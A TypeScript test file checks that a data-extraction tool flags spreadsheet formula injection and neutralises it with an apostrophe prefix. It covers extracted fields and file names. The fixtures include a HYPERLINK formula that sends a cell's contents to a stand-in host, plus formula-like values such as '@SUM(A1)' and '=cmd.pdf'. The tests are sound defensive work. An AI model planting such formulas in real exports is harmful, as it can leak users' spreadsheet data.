import { describe, expect, it } from 'vitest';
import { checkRecord } from '../../../nodes/shared/check/checkRecord';
import { metaOf, toOutput } from '../../../nodes/StructuredExtraction/map';
import { optionsSchema } from '../../../nodes/StructuredExtraction/options';
import { defineSchema } from '../../../nodes/shared/schema/schema';
import { fieldsOf } from './fieldsOf';

const schema = defineSchema(
	'test',
	fieldsOf({ supplier: 'string', phone: 'string', total: 'number', lines: [{ text: 'string' }] }),
);
const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
const answer = {
	supplier: link,
	phone: '+49 30 1234',
	total: '-12.50',
	lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
};
const file = '=cmd.pdf';

function output(kind: string, formulaCells: 'keep' | 'mark') {
	const result = {
		schema,
		extracted: {
			...checkRecord(schema, answer, { dateOrder: 'auto', decimalMark: 'auto' }),
			...{ requests: 1, repairs: 0, notes: [], usage: null },
			model: 'm',
		},
		source: {
			fileName: file,
			text: { pages: [{ number: 1, markdown: JSON.stringify(answer) }], ocrUsage: null, raw: null },
		},
		model: 'm',
		options: optionsSchema.parse({ formulaCells, evidence: false }),
	};
	const meta = metaOf(result);
	return { meta, rows: toOutput(kind, result, meta, [{ fileName: '=x.pdf', reason: 'is empty' }]) };
}

describe('texts that a spreadsheet would run', () => {
	it('are named in the reasons for a review, field by field', () => {
		expect(output('flat', 'keep').meta.review).toEqual([
			'Supplier: the text begins like a formula, which a spreadsheet would run',
			'Line 2, text: the text begins like a formula, which a spreadsheet would run',
		]);
	});

	it('stay as they are unless told otherwise', () => {
		expect(output('flat', 'keep').rows[0]).toMatchObject({ supplier: link, _file: file });
	});

	it.each(['flat', 'listRows'])('are marked in %s, file names too', (kind) => {
		const { rows } = output(kind, 'mark');
		expect(rows[0]).toMatchObject({
			supplier: `'${link}`,
			phone: '+49 30 1234',
			total: -12.5,
			_file: `'${file}`,
			_skipped: "'=x.pdf is empty",
		});
		if (kind === 'listRows') {
			expect(rows.map((row) => row['lines_text'])).toEqual(['- Pen', "'@SUM(A1)"]);
		}
	});

	it('are marked in records', () => {
		const [record = {}] = output('record', 'mark').rows;
		expect(Object.keys(record)).toEqual(['supplier', 'phone', 'total', 'lines', '_meta']);
		expect(record).toMatchObject({
			supplier: `'${link}`,
			lines: [{ text: '- Pen' }, { text: "'@SUM(A1)" }],
		});
	});
});
